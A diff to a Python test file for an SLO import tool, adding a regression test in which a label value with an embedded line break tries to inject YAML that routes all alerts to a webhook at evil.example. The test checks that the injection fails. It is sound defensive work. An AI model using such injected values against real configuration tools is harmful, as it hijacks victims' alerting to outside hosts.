@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import subprocess
+import sys
 import textwrap
 from pathlib import Path
 
@@ -322,3 +324,28 @@ def test_a_short_pyrra_window_drops_only_the_tier_whose_windows_meet(tmp_path: P
            "one)" in report.notes
     # Pyrra's for: 12h/20160 = 2s -> 0s, /2688 = 16s -> 0s, /672 = 64s -> 1m, /224 = 3m13s -> 3m
     assert any("Pyrra's alerts wait for: 0s, 0s, 1m, 3m (one per tier)" in n for n in report.notes)
+
+
+@pytest.mark.parametrize("brk", ["\n", "\r", "\u2028", "\x85"])
+def test_a_line_break_in_peer_text_cannot_write_yaml_into_the_imported_file(tmp_path: Path, brk: str) -> None:
+    """Notes are written as '# note:' comments; a page-alert label value with a line break ended the
+    comment, and the rest became YAML of the SLO file: here an alerts section sending every alert to
+    someone else's webhook."""
+    import yaml
+
+    payload = f"x{brk}alerts: {{channels: {{evil: {{type: webhook, url: 'https://evil.example/'}}}}}} #"
+    spec = tmp_path / "sloth.yaml"
+    spec.write_text(yaml.safe_dump({"version": "prometheus/v1", "service": "api", "slos": [{
+        "name": "a", "objective": 99.9,
+        "sli": {"events": {"error_query": "sum(rate(e[{{.window}}]))", "total_query": "sum(rate(t[{{.window}}]))"}},
+        "alerting": {"name": "X", "page_alert": {"labels": {"tier": payload}}}}]}, allow_unicode=True))
+    report = import_files([str(spec)])
+    text = render(report.config, report.notes, [str(spec)])
+    assert "evil" in text  # named in the note, as text
+    assert set(yaml.safe_load(text)) == {"version", "sources", "slos"}
+    lc = load_text(text, env={})
+    assert lc.config.alerts.channels == {}
+    done = subprocess.run([sys.executable, "-m", "slotui", "import", str(spec)],
+                          capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0 and set(yaml.safe_load(done.stdout)) == {"version", "sources", "slos"}
+    assert all(line.startswith(("note: ", "slotui")) for line in done.stderr.splitlines()), done.stderr
